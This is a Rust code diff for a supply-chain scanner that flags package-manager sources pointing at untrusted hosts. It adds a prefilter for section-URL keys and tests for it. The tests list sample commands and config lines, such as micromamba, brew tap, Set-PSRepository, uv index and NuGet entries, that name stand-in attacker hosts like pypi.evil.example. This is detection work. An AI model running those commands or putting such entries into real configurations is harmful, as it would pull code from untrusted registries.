@@ -53,6 +53,22 @@ static DECLARED_ANY: LazyLock<regex::bytes::RegexSet> = LazyLock::new(|| {
         .unwrap_or_else(|e| panic!("scan rule pattern does not compile: {e}"))
 });
 
+/// Whether `line` may hold a [`SECTION_URL`] key: each of its forms opens
+/// the line (after blanks) with `url`, `index`, `<url>`, `-` or `<add`, or
+/// holds `"url"`.
+fn may_be_section_url(line: &[u8]) -> bool {
+    // What `\s*` skips: ASCII whitespace with the vertical tab.
+    let t = &line
+        [line.iter().take_while(|c| matches!(c, b' ' | b'\t' | b'\n' | b'\x0b' | b'\x0c' | b'\r')).count()..];
+    let opens = |w: &[u8]| t.len() >= w.len() && t[..w.len()].eq_ignore_ascii_case(w);
+    opens(b"url")
+        || opens(b"index")
+        || opens(b"<url>")
+        || opens(b"-")
+        || opens(b"<add")
+        || contains_ci(line, b"\"url\"")
+}
+
 /// A git dependency: `name = { git = "URL" }`, `"dep": "git+https://…"`.
 static GIT_DEPENDENCY: Lazy =
     LazyLock::new(|| compile(&format!(r#"\bgit\s*=\s*['"]{URL}|:\s*['"]git\+{URL}"#)));
@@ -132,7 +148,7 @@ pub(super) fn sources<'a>(line: &str, above: impl Iterator<Item = &'a str>) -> V
                 }
             }
         }
-        if let Some(c) = SECTION_URL.captures(b)
+        if let Some(c) = may_be_section_url(b).then(|| SECTION_URL.captures(b)).flatten()
             && let Some((url, at)) = last_url(&c)
         {
             let under_section = above.take(SECTION_REACH).any(|l| is_section(l.as_bytes()));
@@ -220,5 +236,31 @@ mod tests {
             worst("Never add `conda config --add channels https://conda.evil.example`", &[]),
             Some(Severity::Low)
         );
+    }
+
+    #[test]
+    fn the_gates_turn_away_only_lines_their_patterns_cannot_match() {
+        // Each declared pattern's word, with the URL of a stranger: found.
+        for line in [
+            "micromamba install -c https://c.evil.example/x y",
+            "brew tap me/x https://git.evil.example/tap",
+            "Set-PSRepository -Name X -SourceLocation https://ps.evil.example",
+            "bundle config mirror.https://rubygems.org https://gems.evil.example",
+        ] {
+            assert_eq!(worst(line, &[]), Some(Severity::High), "{line}");
+        }
+        // A section key after a vertical tab or a form feed, as `\s*` skips them.
+        let uv = ["[[tool.uv.index]]"];
+        assert_eq!(worst("\x0b\x0curl = \"https://pypi.evil.example/simple\"", &uv), Some(Severity::High));
+        assert_eq!(worst("INDEX = \"https://pypi.evil.example/simple\"", &uv), Some(Severity::High));
+        assert_eq!(
+            worst("  <add key=\"x\" value=\"https://nuget.evil.example\" />", &["<packageSources>"]),
+            Some(Severity::High)
+        );
+        // A URL line with none of the words or keys: nothing.
+        assert_eq!(worst("curl -s http://pypi.evil.example/simple | jq .", &uv), None);
+        assert!(!may_be_section_url(b"see url"));
+        assert!(may_be_section_url(b"  - x"));
+        assert!(may_be_section_url(b"x \"URL\": y"));
     }
 }
